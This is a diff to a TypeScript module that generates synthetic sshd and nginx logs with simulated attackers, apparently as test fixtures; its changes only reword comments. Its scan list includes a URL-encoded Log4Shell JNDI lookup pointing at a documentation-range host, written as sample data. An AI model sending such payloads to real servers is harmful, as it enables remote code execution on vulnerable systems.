@@ -1,28 +1,28 @@
-/** Logs of a made-up server, the same ones for the same seed, and what there is to be found in them. */
+/** Makes logs of a made-up server, the same ones for the same seed, and counts their content. */
 import { Random } from "../support/random.ts";
 import { exportText, type Fields } from "../support/journal_files.ts";
 
-/** What a log holds. */
+/** Content of a log. */
 export interface Expected {
   readonly lines: number;
-  /** Lines in which the service names an address. */
+  /** Number of lines in which the service names an address. */
   readonly named: number;
-  /** Those of attackers. */
+  /** Number of attackers' lines. */
   readonly attacks: number;
   readonly attackers: ReadonlySet<string>;
 }
 
-/** How a log is made. */
+/** Options of a log. */
 export interface CorpusOptions {
   readonly lines: number;
   readonly seed: number;
-  /** Takes the log piece by piece. */
+  /** Receives the log piece by piece. */
   readonly write: (text: string) => void;
 }
 
 const PIECE = 10_000;
 const ATTACKERS = 20_000;
-/** Seconds since the epoch at which logs begin, and how long they last at most. */
+/** Start of the logs in seconds since the epoch, and their longest span. */
 const BEGINNING = Date.UTC(2026, 2, 1) / 1_000;
 const DAYS = 3;
 
@@ -30,7 +30,7 @@ const NAMES =
   "admin test oracle ubuntu postgres git user ftpuser mysql guest deploy www pi jenkins hadoop nagios"
     .split(" ");
 
-/** Four decimals of no special network, now and then IPv6. */
+/** Returns an address of no special network: IPv4, now and then IPv6. */
 function attackers(random: Random): string[] {
   return random.times(ATTACKERS, () => {
     if (random.below(25) === 0) {
@@ -45,17 +45,20 @@ function hex(random: Random, limit: number): string {
   return (1 + random.below(limit)).toString(16);
 }
 
-/** A record of sshd's or of another program's. */
+/** A record of sshd or of another program. */
 interface Line {
   readonly program: string;
   readonly pid: number;
   readonly message: string;
-  /** Whom it names. */
+  /** The address that it names. */
   readonly address: string | null;
   readonly isAttack: boolean;
 }
 
-/** What sshd and its neighbours write: three lines of five come from 20,000 attackers, in connections as they really go. */
+/**
+ * The lines of sshd and of other programs. Three lines of five are about 20,000 attackers, in
+ * realistic connections.
+ */
 class SshLog {
   readonly #random: Random;
   readonly #attackers: readonly string[];
@@ -66,7 +69,7 @@ class SshLog {
     this.#attackers = attackers(random);
   }
 
-  /** The next line: of one of the connections that are open, or of a new one. */
+  /** Returns the next line, of an open connection or of a new one. */
   next(): Line {
     const random = this.#random;
     if (this.#waiting.length < 20) this.#waiting.push(random.below(10) < 6 ? this.#attack() : this.#peace());
@@ -129,7 +132,7 @@ class SshLog {
   }
 }
 
-/** Writes an auth.log as rsyslog does, local times of UTC; returns what is in it. */
+/** Writes an auth.log as rsyslog does, with local times in UTC. Returns its content. */
 export function writeAuthLog(options: CorpusOptions): Expected {
   const log = new SshLog(new Random(options.seed));
   return writeLines(options, (second) => {
@@ -139,7 +142,7 @@ export function writeAuthLog(options: CorpusOptions): Expected {
   });
 }
 
-/** Gives the same as `writeAuthLog()` writes as entries of a journal, in the export format. */
+/** Writes the messages of `writeAuthLog()` as entries of a journal, in the export format. */
 export function* exportedAuthLog({ lines, seed }: Omit<CorpusOptions, "write">): Generator<Uint8Array> {
   const log = new SshLog(new Random(seed));
   let entries: Fields[] = [];
@@ -180,7 +183,7 @@ const SCANS = [
   "/index.php?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D",
 ];
 
-/** Writes nginx's access log in its form `combined`: one request of ten looks for holes. */
+/** Writes nginx's access log in the format `combined`. One request of ten probes for holes. */
 export function writeAccessLog(options: CorpusOptions): Expected {
   const random = new Random(options.seed);
   const all = attackers(random);
@@ -208,8 +211,8 @@ export function writeAccessLog(options: CorpusOptions): Expected {
 }
 
 /**
- * Writes lines of sshd in which so many `addresses`, beginning with the one of number `from`, try by turns: with as many lines
- * each once, so that nobody passes a limit.
+ * Writes lines of sshd about `addresses` attackers in rotation, from the one of number `from` on.
+ * With as many lines as addresses each address has one, so that none passes a limit.
  */
 export function writeStrangers(
   { lines, from = 0, addresses = lines, write }: Omit<CorpusOptions, "seed"> & {
@@ -226,7 +229,7 @@ export function writeStrangers(
   });
 }
 
-/** Of each attacker from the one numbered `from` on what sshd says of one attempt to log in: three lines. */
+/** Writes sshd's three lines on one login attempt of each attacker, from number `from` on. */
 export function writeAttempts(
   { attackers, from, write }: { attackers: number; from: number; write: (text: string) => void },
 ): Expected {
@@ -248,7 +251,7 @@ function strangerOf(n: number): string {
   return `${11 + (n >>> 24)}.${n >>> 16 & 255}.${n >>> 8 & 255}.${n & 255}`;
 }
 
-/** What stands before a message of the process that serves a stranger. */
+/** Returns the head of a message of the process that serves a stranger. */
 function sshdOf(n: number, time: number): string {
   return `${syslogTime(time)} web1 sshd[${1_000 + n % 60_000}]: `;
 }
@@ -277,7 +280,7 @@ function writeLines({ lines, write }: CorpusOptions, next: (second: number) => W
   return expected;
 }
 
-/** When line `i` was written, in seconds after the beginning: a million lines take all the days, fewer as much less. */
+/** Returns the time of line `i`, in seconds after the start. A million lines take the whole span. */
 function secondsOf(i: number, lines: number): number {
   return i * DAYS * 86_400 / Math.max(lines, 1e6);
 }
